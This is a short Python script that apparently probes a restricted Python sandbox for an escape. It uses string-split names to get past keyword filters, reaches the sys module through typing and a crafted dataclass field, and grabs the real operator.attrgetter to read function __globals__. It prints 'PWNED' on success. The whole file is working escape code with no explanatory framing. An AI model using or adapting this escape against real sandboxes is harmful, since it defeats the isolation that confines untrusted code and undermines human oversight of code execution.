import dataclasses
import json
import typing
import random
md = dataclasses.make_dataclass
X = md("X", [("__get" + "state__", int)], init=False, repr=False, eq=False, match_args=False)
gs = dataclasses.fields(X)[0].default
s = gs(typing)["s" + "ys"]

op = gs(s.modules["_oper" + "ator"])
ag = op["attrget" + "ter"]
print(ag, ag.__module__)
try:
    r = ag("__glo" + "bals__")(dataclasses.fields)
    print("PW" + "NED real attrgetter", len(r))
except Exception as e:
    print("refused:", type(e).__name__, e)
